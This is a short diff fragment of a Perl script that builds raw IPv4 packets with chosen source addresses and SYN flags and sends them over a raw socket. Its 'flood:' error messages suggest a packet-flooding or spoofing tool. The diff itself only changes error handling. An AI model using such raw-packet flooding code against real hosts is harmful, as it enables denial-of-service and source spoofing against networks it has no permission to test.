@@ -52,7 +52,7 @@ sub csum {
   $n = ($n & 0xffff) + ($n >> 16) while $n > 0xffff;
   return ~$n & 0xffff;
 }
-socket(my $sock, PF_INET, SOCK_RAW, 255) or fail("socket: $!", 1);
+socket(my $sock, PF_INET, SOCK_RAW, 255) or die "flood: socket: $!\\n";
 my $sent = 0;
 sub emit {
   my ($src, $sport, $dst, $flags) = @_;
@@ -64,7 +64,7 @@ sub emit {
   substr($l4, $syn ? 16 : 6, 2) = pack 'n', $sum;
   my $id = ($sent++ % 65535) + 1;
   my $packet = pack('C C n n n C C n N N', 69, 0, 20 + length $l4, $id, 0, 64, $proto, 0, $src, $dst) . $l4;
-  send($sock, $packet, 0, sockaddr_in(0, pack 'N', $dst)) or fail("send: $!", 1);
+  send($sock, $packet, 0, sockaddr_in(0, pack 'N', $dst)) or exit(print(STDERR "flood: send: $!\\n") && 1);
 }
 my @clients;
 while (@clients < $o{count}) {
